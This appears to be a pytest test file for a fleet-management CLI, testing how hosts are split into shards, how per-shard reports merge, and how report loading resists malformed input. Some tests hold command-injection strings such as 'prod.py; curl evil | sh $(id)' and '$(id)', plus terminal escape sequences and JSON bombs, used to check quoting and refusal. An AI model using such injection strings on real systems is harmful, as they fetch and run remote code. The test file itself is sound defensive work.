"""A fleet in parts, and their reports as one."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import pytest
from click.testing import CliRunner, Result
from hypothesis import given
from hypothesis import settings as profile
from hypothesis import strategies as st

from fleethands.cli.interface import cli
from fleethands.errors import UsageError
from fleethands.fleet.shard import Shard
from fleethands.report.formats import ReportFiles, html_page, junit
from fleethands.report.load import InvalidReport, load_report
from fleethands.report.model import HostReport, Report, Status
from tests.helpers import reports

FLEET = [f"gpu-{number:04}.example.net" for number in range(1000)]


@pytest.mark.parametrize("count", [1, 2, 3, 7, 16])
def test_every_host_is_of_one_part(count: int) -> None:
    parts = [[name for name in FLEET if Shard(index, count).contains(name)] for index in range(1, count + 1)]

    assert sorted(name for part in parts for name in part) == FLEET
    assert min(map(len, parts)) > 0.7 * len(FLEET) / count


def test_a_host_that_joins_moves_no_other_and_parts_stay_between_releases() -> None:
    parts = [[f"gpu-{n}" for n in range(1, 13) if Shard(index, 3).contains(f"gpu-{n}")] for index in (1, 2, 3)]

    assert parts == [
        ["gpu-1", "gpu-2", "gpu-5", "gpu-6"],
        ["gpu-3", "gpu-9", "gpu-10", "gpu-11"],
        ["gpu-4", "gpu-7", "gpu-8", "gpu-12"],
    ]


WRONG = ["", "1", "0/2", "3/2", "1/0", "-1/2", "a/b", "1/2/3", "1.0/2", " 1/2", "1/2\n", "\u0661/2"]


@pytest.mark.parametrize("text", WRONG)
def test_wrong_words_for_a_part(text: str) -> None:
    with pytest.raises(ValueError, match="expected I/N"):
        Shard.parse(text)


def part(directory: Path, shard: str, hosts: dict[str, HostReport], begun: float = 0, **changes: Any) -> str:
    report = reports.run(hosts)
    report.shard, report.started = shard, reports.NOON + begun
    report.words = f"inventory/prod.py --shard {shard}"
    for name, value in changes.items():
        setattr(report, name, value)
    ReportFiles(directory).write(report)
    return str(directory)


def merge(*words: str) -> Result:
    return CliRunner().invoke(cli, ["report", "merge", *words])


def test_a_report_is_read_as_it_was_written(tmp_path: Path) -> None:
    report = reports.apply()
    report.hosts["gpu-1"].loaded_facts = {"system": {"os": "debian"}}
    report.error, report.hints, report.shard = "it broke", ["fix it"], "2/4"
    ReportFiles(tmp_path).write(report)

    assert load_report(tmp_path).to_json() == report.to_json()
    assert load_report(tmp_path / "report.json").to_json() == report.to_json()


def test_parts_are_joined(tmp_path: Path) -> None:
    one = part(tmp_path / "1", "1/2", {"a": reports.changed()}, begun=5, seconds=100.0)
    two = part(tmp_path / "2", "2/2", {"b": HostReport("unchanged")}, begun=0, seconds=10.0)

    done = merge(one, two, "--report", str(tmp_path / "whole"), "--summary", str(tmp_path / "summary.md"), "--json")

    document = json.loads(done.stdout)
    assert done.exit_code == 0
    assert document == json.loads((tmp_path / "whole/report.json").read_text())
    assert {name: host["status"] for name, host in document["hosts"].items()} == {"a": "changed", "b": "unchanged"}
    assert (document["started"], document["seconds"]) == ("2026-11-25T12:00:00Z", 105.0)
    assert (document["words"], document["shard"], document["result"]) == ("inventory/prod.py", "", "changed")
    assert (tmp_path / "whole/junit.xml").exists()
    assert "1 of 2 hosts changed" in (tmp_path / "summary.md").read_text()


@pytest.mark.parametrize(
    ("status", "changes", "code"),
    [("failed", {}, 1), ("unchanged", {"interrupted": True}, 130), ("unchanged", {"error": "it broke"}, 1)],
)
def test_one_part_that_went_wrong_is_the_exit_code_of_all(
    tmp_path: Path, status: Status, changes: dict[str, Any], code: int
) -> None:
    one = part(tmp_path / "1", "1/2", {"a": reports.changed()})
    two = part(tmp_path / "2", "2/2", {"b": HostReport(status)}, **changes)

    assert merge(one, two).exit_code == code


def test_a_part_without_a_report_is_a_failure_and_named(tmp_path: Path) -> None:
    one = part(tmp_path / "1", "1/3", {"a": reports.changed()})
    three = part(tmp_path / "3", "3/3", {"c": reports.changed()})

    done = merge(one, three, "--report", str(tmp_path / "whole"))

    assert done.exit_code == 1
    assert "error: part 2/3 left no report" in done.stderr
    assert done.stdout.endswith("Fix the cause, then run: fleethands apply inventory/prod.py\n")
    assert "part 2/3 left no report" in (tmp_path / "whole/report.html").read_text()


def test_a_part_that_was_interrupted_before_its_hosts_were_known_is_told(tmp_path: Path) -> None:
    one = part(tmp_path / "1", "1/2", {"a": reports.changed()})
    two = part(tmp_path / "2", "2/2", {}, interrupted=True, error="interrupted")

    done = merge(one, two)

    assert done.exit_code == 130
    assert "error: interrupted, before the hosts of a part were known" in done.stderr


def test_an_empty_part_is_no_failure(tmp_path: Path) -> None:
    one = part(tmp_path / "1", "1/2", {"a": HostReport("unchanged")})
    two = part(tmp_path / "2", "2/2", {})

    assert merge(one, two).exit_code == 0


def test_of_two_reports_of_one_host_the_later_counts_and_it_is_said(tmp_path: Path) -> None:
    one = part(tmp_path / "1", "", {"a": reports.failed()}, begun=0, words="x")
    two = part(tmp_path / "2", "", {"a": reports.changed()}, begun=60, words="x")

    done = merge(two, one)

    assert done.exit_code == 0
    assert "warning: a is in several reports: the latest one is used" in done.stderr
    assert "warning" not in merge(one, one).stderr


def test_what_can_not_be_one_is_told_and_nothing_is_written(tmp_path: Path) -> None:
    one = part(tmp_path / "1", "1/2", {"a": reports.changed()})
    other = part(tmp_path / "2", "2/2", {"b": reports.changed()}, command="plan")
    divided = part(tmp_path / "3", "2/3", {"b": reports.changed()})

    for second, said in ((other, "different commands: apply, plan"), (divided, "different divisions: of 2, of 3")):
        done = merge(one, second, "--report", str(tmp_path / "whole"))
        assert isinstance(done.exception, UsageError)
        assert not (tmp_path / "whole/report.json").exists()
        assert str(done.exception).endswith(said)


@pytest.mark.parametrize(
    "text", ["", "[]", "{}", '{"schema": 2}', '{"schema": 1}', '{"schema": 1, "command": "apply", "hosts": []}', "\xff"]
)
def test_a_file_that_is_no_report_is_refused_by_name(tmp_path: Path, text: str) -> None:
    (tmp_path / "report.json").write_bytes(text.encode("latin-1"))

    with pytest.raises(InvalidReport, match=re.escape(str(tmp_path))):
        load_report(tmp_path)


def test_a_report_of_whomever_moves_no_terminal_and_breaks_nothing(tmp_path: Path) -> None:
    hosts = {"a\x1b[2J": HostReport("failed", "no\x1b]0;mine\x07 answer")}
    where = part(tmp_path / "1", "", hosts, words="it's")

    for words in (["report", "show", where], ["report", "merge", where]):
        done = CliRunner().invoke(cli, words)
        assert done.exit_code == 1
        assert "no answer" in done.stdout
        assert "\x1b" not in done.stdout
    for shard, seconds in (("9/3", "1"), ("", "Infinity"), ("", "1e999")):
        where = part(tmp_path / "2", shard, {}, seconds=4321.0)
        path = tmp_path / "2" / "report.json"
        path.write_text(path.read_text().replace("4321.0", seconds))
        done = CliRunner().invoke(cli, ["report", "merge", where])
        assert isinstance(done.exception, UsageError)


def test_a_report_can_be_shown(tmp_path: Path) -> None:
    where = part(tmp_path / "1", "", {"a": reports.failed()}, words="inventory/prod.py")

    done = CliRunner().invoke(cli, ["report", "show", where])

    assert done.exit_code == 1
    assert "a  failed: Models | Pull what is missing: the registry has no model m:1" in done.stdout
    assert done.stdout.rstrip().endswith("Fix the cause, then run: fleethands apply inventory/prod.py")


def test_document_of_a_whole_fleet_has_no_part() -> None:
    assert Report("plan", {}).to_json()["shard"] == ""
    assert str(Shard(1, 1)) == ""


WHOLE = Report("apply", {"a": reports.failed(), "b": reports.changed()}, reports.NOON, 42.0, words="prod.py").to_json()
json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4),
    max_leaves=10,
)


def keys_of(value: Any, way: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """The way to each value in a document."""
    pairs = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, each in pairs:
        yield (*way, key)
        yield from keys_of(each, (*way, key))


@profile(max_examples=300, deadline=None)
@given(st.sampled_from(sorted(keys_of(WHOLE), key=str)), json_values)
def test_a_report_with_any_value_anywhere_is_one_or_is_refused(way: tuple[Any, ...], value: Any) -> None:
    document = json.loads(json.dumps(WHOLE))
    place = document
    for key in way[:-1]:
        place = place[key]
    place[way[-1]] = value
    with TemporaryDirectory() as directory:
        path = Path(directory) / "report.json"
        path.write_text(json.dumps(document))
        try:
            report = load_report(path)
        except InvalidReport:
            return
    for text in (
        json.dumps(report.to_json(), allow_nan=False),
        html_page.render_html(report),
        junit.render_junit(report),
    ):
        assert "\x1b" not in text


@pytest.mark.parametrize("text", ["[" * 10**6, '{"schema": 1, "a": 1e999}', "9" * 10**5, '{"a": ' * 10**5])
def test_a_bomb_is_no_report(tmp_path: Path, text: str) -> None:
    (tmp_path / "report.json").write_text(text)

    with pytest.raises(InvalidReport):
        load_report(tmp_path)


def test_a_report_that_is_too_long_is_read_no_further(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("fleethands.report.load.LONGEST", 1 << 20)
    (tmp_path / "report.json").symlink_to("/dev/zero")

    with pytest.raises(InvalidReport, match="more than 1 MiB"):
        load_report(tmp_path)


def test_the_words_of_a_report_are_quoted_where_a_hint_has_them(tmp_path: Path) -> None:
    where = part(tmp_path / "1", "", {"a": reports.failed()}, words="prod.py; curl evil | sh $(id)")

    done = CliRunner().invoke(cli, ["report", "show", where])

    assert done.stdout.rstrip().endswith("run: fleethands apply 'prod.py;' curl evil '|' sh '$(id)'")


@pytest.mark.parametrize("command", ["apply; id", "$(id)", "", "apply --yes", "x" * 50])
def test_a_report_of_no_command_of_ours_is_refused(tmp_path: Path, command: str) -> None:
    (tmp_path / "report.json").write_text(json.dumps({**WHOLE, "command": command}))

    with pytest.raises(InvalidReport, match="command"):
        load_report(tmp_path)


def test_of_many_parts_that_left_nothing_only_some_are_named(tmp_path: Path) -> None:
    done = merge(part(tmp_path / "1", "1/999999", {"a": reports.changed()}))

    assert "part 21/999999 left no report; 999978 more parts left no report" in done.stderr
    assert len(done.stderr) < 2000
